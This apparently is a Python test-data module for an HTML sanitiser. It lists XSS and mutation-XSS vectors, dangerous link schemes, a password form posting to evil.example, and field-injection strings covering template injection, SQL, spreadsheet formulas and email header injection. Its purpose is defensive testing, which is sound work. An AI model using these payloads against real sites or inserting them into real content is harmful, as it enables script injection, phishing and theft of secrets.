"""What a text is attacked with: each calls ``pwned`` in a browser that lets it, or leads or looks where it must not."""

from __future__ import annotations

ELEMENTS = '''
<script>pwned()</script>
<script src=//evil.example/x.js></script>
<SCRIPT>pwned()</SCRIPT>
<script
>pwned()</script >
<script/x>pwned()</script>
<scr<script>ipt>pwned()</scr</script>ipt>
<<script>pwned()//<</script>
<script>/*<p>*/pwned()</script
<script><!--<script></script>-->pwned()</script>
<script type=module>import("//evil.example")</script>
<p>one</p><script>pwned()
<img src=x onerror=pwned()>
<img src=x onerror="pwned()"
<img/src=x/onerror=pwned()>
<img src="x`><script>pwned()</script>"`>
<img """><script>pwned()</script>">
<img srcset="x, x" onerror=pwned()>
<image src=x onerror=pwned()>
<img src=x:x onerror&equals;pwned()>
<img src=/media/pictures/k/a.jpg onload=pwned()>
<img src=/media/pictures/k/a.jpg alt='" onload=pwned() x="'>
<img src=/media/pictures/k/a.jpg alt='--><script>pwned()</script>'>
<img src=/media/pictures/k/a.jpg width=1 height="1onload=pwned()">
<body onload=pwned()>
<html onclick=pwned()><p>x
<p onclick=pwned()>x</p>
<p onclick
=
"pwned()">x</p>
<p/onclick=pwned()>x</p>
<p "onclick=pwned()">x</p>
<strong onmouseover=pwned()>x</strong>
<a onclick=pwned() href=#x>x</a>
<a href=x onfocus=pwned() autofocus tabindex=1>x</a>
<details open ontoggle=pwned()><summary>x</summary></details>
<video><source onerror=pwned()></video>
<video src=x onerror=pwned()></video>
<audio src=x onerror=pwned()></audio>
<input autofocus onfocus=pwned()>
<select autofocus onfocus=pwned()><option>x</select>
<textarea autofocus onfocus=pwned()>x</textarea>
<keygen autofocus onfocus=pwned()>
<marquee onstart=pwned()>x</marquee>
<object data=javascript:pwned()></object>
<object data="data:text/html,<script>parent.pwned()</script>"></object>
<embed src=javascript:pwned()>
<applet code=x></applet>
<iframe src=javascript:pwned()></iframe>
<iframe srcdoc="<script>parent.pwned()</script>"></iframe>
<iframe/onload=pwned()>
<frameset onload=pwned()><frame src=x></frameset>
<portal src=//evil.example></portal>
<base href=//evil.example/>
<base href="javascript:pwned()//"><a href=x>x</a>
<meta http-equiv=refresh content="0;url=javascript:pwned()">
<meta http-equiv=refresh content="0;url=//evil.example">
<meta charset=utf-7>+ADw-script+AD4-pwned()+ADw-/script+AD4-
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example/x>
<style>@import "//evil.example/x.css";</style>
<style>p{background:url(//evil.example)}</style>
<style><img src="</style><img src=x onerror=pwned()>">
<div style="background:url(javascript:pwned())">x</div>
<div style="position:fixed;inset:0;z-index:9999">x</div>
<p style="x:expression(pwned())">x</p>
<p class=masthead id=main>x</p>
<form action=//evil.example><input name=password><button>Sign in</button></form>
<form id=x></form><button form=x formaction=javascript:pwned()>x</button>
<isindex action=javascript:pwned() type=image>
<a id=location name=location href=/x>x</a>
<img name=body src=/media/pictures/k/a.jpg>
<form><input name=attributes><input name=parentNode></form>
<a name=cookie><a name=cookie id=cookie>x</a></a>
<template><script>pwned()</script></template>
<template shadowrootmode=open><script>pwned()</script></template>
<slot onslotchange=pwned()>x</slot>
<dialog open onclose=pwned()>x</dialog>
<x-a onclick=pwned()>x</x-a>
<gadget onclick=pwned()>x</gadget>
<xss style="animation-name:x" onanimationstart=pwned()></xss>
<p contenteditable onbeforeinput=pwned()>x</p>
<p popover id=p onbeforetoggle=pwned()>x</p><button popovertarget=p>x</button>
<map name=m><area shape=default href=javascript:pwned()></map><img usemap=#m src=/media/pictures/k/a.jpg>
<table background=javascript:pwned()><tr><td>x</table>
<td background=//evil.example/x.png>x</td>
<th onclick=pwned() colspan="1onclick">x</th>
<plaintext><script>pwned()</script>
<xmp><script>pwned()</script></xmp>
<listing>&lt;img src=x onerror=pwned()></listing>
<noembed><img src="</noembed><script>pwned()</script>"></noembed>
<iframe><img src="</iframe><script>pwned()</script>"></iframe>
<noframes><style></noframes><script>pwned()</script></style></noframes>
'''

MUTATIONS = """
<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>
<noscript><style></noscript><img src=x onerror=pwned()></style></noscript>
<textarea><img title="</textarea><img src=x onerror=pwned()>"></textarea>
<title><img title="</title><img src=x onerror=pwned()>"></title>
<svg onload=pwned()>
<svg><script>pwned()</script></svg>
<svg><script href=//evil.example/x.js />
<svg><script>&#112;wned()</script></svg>
<svg><a xlink:href=javascript:pwned()><text y=20>x</text></a></svg>
<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>
<svg><a><animate attributeName=href values=javascript:pwned() /><text>x</text></a></svg>
<svg><set attributeName=onmouseover to=pwned() /></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>"></iframe></foreignObject></svg>
<svg><style><img title="</style><img src=x onerror=pwned()>"></style></svg>
<svg></p><style><a id="</style><img src=x onerror=pwned()>">
<svg><title><style><img title="</style></title><img src=x onerror=pwned()>"></style></title></svg>
<svg><desc><p><style><!--</style><img src=x onerror=pwned()>--></style></desc></svg>
<svg><![CDATA[><img src=x onerror=pwned()>]]></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">
<math><mtext><table><mglyph><style><math href=javascript:pwned()>x</math></style></table></mtext></math>
<math><mi><table><mglyph><style><img src=x onerror=pwned()></style></table></mi></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwned()></style></annotation-xml></math>
<math href="javascript:pwned()">x</math>
<math><maction actiontype="statusline#pwned" xlink:href=javascript:pwned()>x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>
<table><td><math><p></p><style><!--</style><img src=x onerror=pwned()>--></style></math></td></table>
<p><svg><p><style></p><img title="</style><img src=x onerror=pwned()>"></svg>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=pwned()>">
<select><style></select><img src=x onerror=pwned()></style>
<table><form><table><form></table><img src=x onerror=pwned()>
<a><table><a><img src=x onerror=pwned()></table>
<b><p><b></p><svg><style></b><img src=x onerror=pwned()>
<option><style></option></select><img src=x onerror=pwned()></style>
<!--><img src=x onerror=pwned()>-->
<!---><img src=x onerror=pwned()>-->
<!-- --!><img src=x onerror=pwned()>-->
<!--<img src="--><img src=x onerror=pwned()>">
<!-- never closed <img src=x onerror=pwned()>
<!--[if IE]><script>pwned()</script><![endif]-->
<![if true]><script>pwned()</script><![endif]>
<![CDATA[<script>pwned()</script>]]>
<?xml version="1.0"?><script>pwned()</script>
<?php echo "<script>pwned()</script>" ?>
<!doctype html><script>pwned()</script>
</<script>pwned()</script>
</p <img src=x onerror=pwned()>
<p title="</p><img src=x onerror=pwned()>">x
<a href="</a><img src=x onerror=pwned()>
<p a='"' b='><img src=x onerror=pwned()>'>x</p>
<ruby><rt><template></rt><script>pwned()</script></template></ruby>
<caption><svg><style></caption><img src=x onerror=pwned()>
&lt;script&gt;pwned()&lt;/script&gt;<p>
&amp;lt;img src=x onerror=pwned()&amp;gt;<p>
&#60;img src=x onerror=pwned()&#62;<p>
&#x3c;svg/onload=pwned()&#x3e<p>
\u02c2script\u02c3pwned()\u02c2/script\u02c3<p>
\uff1cscript\uff1epwned()\uff1c/script\uff1e<p>
<\u0338script>pwned()</script>
<scr\x00ipt>pwned()</scr\x00ipt>
<im\x00g src=x onerror=pwned()>
<img\x0bsrc=x onerror=pwned()>
<img\x0csrc=x\x0conerror=pwned()>
<img src=x on\x00error=pwned()>
\ufeff<script>pwned()</script>
<p>\ud800<img src=x onerror=pwned()>
\u2028<script>\u2028pwned()</script>
"""

# Values of href. None of them may be left on a link.
ADDRESSES = """
javascript:pwned()
JaVaScRiPt:pwned()
javascript:1
javascript&colon;pwned()
javascript&#58;pwned()
&#106;avascript:pwned()
&#x6A;avascript:pwned()
&#0000106avascript:pwned()
&#00000000000000000106;avascript:pwned()
java&Tab;script:pwned()
java&NewLine;script:pwned()
java&#9;script:pwned()
java&#10;script:pwned()
java&#13;script:1
java\tscript:pwned()
 javascript:pwned()
&#1;javascript:pwned()
&#32;javascript:pwned()
\x01javascript:pwned()
\u00a0javascript:pwned()
\u200bjavascript:pwned()
\u202ejavascript:pwned()
\ufeffjavascript:pwned()
jav\x00ascript:pwned()
javascript://example.org/%0apwned()
javascript://https://example.org/?%0Apwned()
javascript:\u2028pwned()
javascript&#x3a;&#x70;wned()
vbscript:pwned()
vbscript:1
livescript:pwned()
mocha:pwned()
data:text/html,<script>pwned()</script>
data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+
data:1
data:image/svg+xml,<svg onload=pwned()>
blob:https://example.org/1
filesystem:https://example.org/1
about:blank
view-source:https://example.org/
file:///etc/passwd
file://server/share
ftp://example.org/
sms:90909
sms:+3225550148
facetime:123
skype:someone
ms-word:ofe|u|https://evil.example/x
ms-word:1
ms-msdt:/id
intent://x#Intent;scheme=https;end
market://details
steam:1
ldap://evil.example/
gopher://evil.example/
jar:https://evil.example/!/
feed:javascript:pwned()
//evil.example/
///evil.example/
////evil.example/
/\\evil.example/
\\\\evil.example/
\\/evil.example/
/&Tab;/evil.example/
/&#10;/evil.example/
/\t/evil.example/
https:evil.example
https:/evil.example
https:///evil.example
http:\\\\evil.example
https:\\evil.example
https://example.org@evil.example/
https://user:secret@evil.example/
https://example.org\\@evil.example/
https://example.org:80:80/
https://exa mple.org/
https://%65vil.example/
https://<b>.example/
https://
https://./
https://[::1
https://example.org:port/
mailto:
mailto:nobody
mailto:a@b.org?subject=x%0d%0abcc:c@d.org
mailto:a@b.org%0abcc:c@d.org
tel:
tel:pwned()
tel:1;javascript:pwned()
relative/path
../up
page.html
?query=1
javascript
:
http
https
:javascript:pwned()
x:y
\u0458avascript:pwned()
"""


def _lines(block: str) -> list[str]:
    """One vector a line; a line that begins with white space or "=" goes on from the one before."""
    found: list[str] = []
    for line in block.strip("\n").split("\n"):
        if found and line.startswith(("=", ">", '"pwned')):
            found[-1] += f"\n{line}"
        else:
            found.append(line)
    return found


HREFS = ADDRESSES.strip("\n").split("\n")
VECTORS = [
    *_lines(ELEMENTS),
    *_lines(MUTATIONS),
    *(f'<a href="{href}">x</a>' for href in HREFS),
    *(f"<p><a href='{href}' hreflang=en><strong>x</strong></a></p>" for href in HREFS[:20]),
    *(
        f"<figure><img src='{src}' alt=x></figure>"
        for src in [*HREFS[:20], "/media/pictures/../../desk/", "/desk/"]
    ),
]

# Typed into every field that takes words; all of it is text.
WORDS = [
    "{{7*7}}",
    "{{ config.SECRET_KEY }}",
    "{% for x in ().__class__.__bases__ %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s {0} {name}",
    "<script>pwned()</script>",
    "\"><img src=x onerror=pwned()>",
    "' or 1=1 --",
    "=HYPERLINK(\"//evil.example\")",
    "x\r\nBcc: other@example.org",
    "x\x0bBcc: other@example.org",
    "x\x0cBcc: a", "x\x1cBcc: a", "x\x1dBcc: a", "x\x1eBcc: a", "x\x1fBcc: a", "x\x85Bcc: a",
    "x\u2028Bcc: a", "x\u2029Bcc: a", "x\x00y", "\ud800x", "\u202eexe.gpj", "\u2066open",
]  # fmt: skip
